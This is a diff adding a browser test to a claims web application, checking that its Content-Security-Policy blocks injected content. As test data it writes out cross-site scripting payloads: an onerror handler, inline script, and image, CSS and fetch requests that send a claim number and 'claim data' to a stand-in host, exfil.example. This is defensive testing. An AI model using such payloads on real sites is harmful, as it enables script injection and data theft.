@@ -75,4 +75,51 @@ export const tests = [
       assert.deepEqual(dialogs, []);
     },
   },
+  {
+    // The sanitiser is the first guard; the page's Content-Security-Policy is the second. Were
+    // markup ever to slip through, Chromium must still refuse to run it or to send claim data out.
+    name: 'the page policy refuses injected script, outside images and outside requests in Chromium',
+    allowConsoleErrors: [/Content Security Policy/i, /Failed to fetch/i, /ERR_BLOCKED/i],
+    async run({ page, baseURL }) {
+      const res = await page.goto(`${baseURL}/claims/${BASE_CLAIM}`);
+      const policy = res?.headers()['content-security-policy'] ?? '';
+      assert.match(policy, /script-src 'self'/);
+      assert.match(policy, /frame-ancestors 'none'/);
+      await page.locator('[data-panel="overview"]').waitFor(WAIT);
+      // Every script the page loads is its own, served with the same policy.
+      for (const src of await page.locator('script[src]').evaluateAll((scripts) => scripts.map((s) => s.src))) {
+        assert.ok(src.startsWith(baseURL), `the page loads a script from ${src}`);
+        const script = await fetch(src);
+        assert.equal(script.status, 200);
+        assert.match(script.headers.get('content-security-policy') ?? '', /script-src 'self'/);
+      }
+
+      const outcome = await page.evaluate(async () => {
+        const refused = [];
+        document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
+        const host = document.createElement('div');
+        document.body.append(host);
+        // What a failed sanitiser would let through: inline script, a handler, an outside image, a style.
+        host.innerHTML =
+          '<img src="https://exfil.example/pixel.png?claim=CLM-26-004211"><img src="x" onerror="window.__pwned = 1">' +
+          '<div style="background: url(https://exfil.example/bg.png)">x</div>';
+        const script = document.createElement('script');
+        script.textContent = 'window.__pwned = 2';
+        document.body.append(script);
+        let fetched = 'sent';
+        try {
+          await fetch('https://exfil.example/collect', { method: 'POST', body: 'claim data', mode: 'no-cors' });
+        } catch {
+          fetched = 'refused';
+        }
+        await new Promise((resolve) => setTimeout(resolve, 500));
+        return { refused: [...new Set(refused)].sort(), fetched, pwned: window.__pwned };
+      });
+      assert.equal(outcome.pwned, undefined, 'injected script ran');
+      assert.equal(outcome.fetched, 'refused', 'a request to another site was sent');
+      for (const directive of ['connect-src', 'img-src', 'script-src-elem', 'style-src-attr']) {
+        assert.ok(outcome.refused.includes(directive), `the policy did not refuse ${directive} (refused: ${outcome.refused.join(', ')})`);
+      }
+    },
+  },
 ];
